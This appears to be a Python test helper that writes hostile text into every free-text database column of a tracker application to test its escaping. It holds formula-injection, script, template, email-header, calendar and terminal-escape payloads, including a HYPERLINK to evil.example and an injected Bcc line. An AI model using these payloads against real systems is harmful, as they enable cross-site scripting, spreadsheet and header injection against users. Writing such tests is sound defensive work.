"""Hostile text for every field of the records that is free text: formulas, tags, markup, headers, escapes at once."""

from collections.abc import Iterator
from itertools import cycle

from sqlalchemy import Column, Text, text
from sqlalchemy.orm import Session

from tracker.model import JOURNALED

#: How a formula may begin, in any spreadsheet; what stands before it may be trimmed away.
BEGINS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "'=", '"=', "\u202e=", "\uff1d")
ATTACK = (
    'HYPERLINK("https://evil.example/?q","x")</title></style><script>alert(1)</script><img src=x onerror=alert(2)>'
    '#panic("x") $x$ *b* _i_ `c` \\u{41} [/x] {{7*7}} &amp; %0A'
)
INJECTED = "\r\nBcc: evil@evil.example\r\nEND:VEVENT\r\nBEGIN:VALARM\x1b]0;owned\x07\x1b[31m\x9b2J\u202e\u2066\ufeff "
#: Columns whose text is a key, a time or our own JSON: nobody types it, and the tracker reads it as such.
_OURS = frozenset(
    {
        *("listing.said", "mapping.headings", "mapping.columns", "session.zone", "session.starts_at"),
        *("setting.key", "wording.audience", "wording.part", "import.digest"),
    }
)
_ALIKE = "employment.classification"  # the same for everybody: each classification has a row of its own in a report
_ONLY = {"setting": "key IN ('agency', 'contact', 'footer')"}


def texts() -> Iterator[Column[str]]:
    """Give every column that holds free text, in whatever table: one that is added later is among them."""
    for table in JOURNALED:
        words = {str(each.name).removesuffix("_is_one_of") for each in table.constraints if each.name}
        for column in table.columns:
            free = isinstance(column.type, Text) and column.name not in words
            if free and table.name != "published" and f"{table.name}.{column.name}" not in _OURS:
                yield column


def mark(column: Column[str]) -> str:
    """Give what a column's hostile text is known by, wherever it comes out."""
    return f"q.{column.table.name}.{column.name}."


def poison(db: Session, columns: Iterator[Column[str]]) -> None:
    """Put hostile text into columns, each row's its own; the ways to begin a formula take turns."""
    for column, begin in zip(columns, cycle(BEGINS), strict=False):
        table = column.table.name
        said = f"{begin}{ATTACK}{INJECTED}{mark(column)}"
        row = "1" if str(column) == _ALIKE else "id"
        db.execute(
            text(
                f'UPDATE "{table}" SET "{column.name}" = :said || {row} || \'.q\''
                f' WHERE "{column.name}" IS NOT NULL AND {_ONLY.get(table, "true")}'
            ),
            {"said": said},
        )
